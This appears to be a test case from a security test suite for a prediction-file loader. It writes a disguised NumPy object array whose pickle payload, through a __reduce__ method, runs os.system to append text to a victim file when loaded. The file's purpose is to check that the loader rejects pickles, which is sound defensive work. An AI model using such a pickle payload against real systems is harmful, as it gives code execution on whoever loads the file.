# id: 30
# title: an array of Python objects, which runs code when it is loaded
# category: malformed predictions
# timeout_s: 8
# needs: hints:victim_file
# expect_status: ok
# verdict: No array file is read, least of all with pickles.
# host_check: victim_file unchanged
import json
import os
import pickle
import struct

HINTS = json.load(open("attack_hints.json"))


def say(kind, what=""):
    print(f"ATTACK-{kind} {what!s:.300}", flush=True)


class Touch:
    def __reduce__(self):
        return os.system, (f"echo broken >> {HINTS['victim_file']}",)


header = b"{'descr': '|O', 'fortran_order': False, 'shape': (40, 2), }"
header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
body = b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header
body += pickle.dumps([Touch()] * 80)
for name in ("predictions.npy", "predictions.csv", "predictions.pkl"):
    open(name, "wb").write(body)
say("INFO", "an object array")
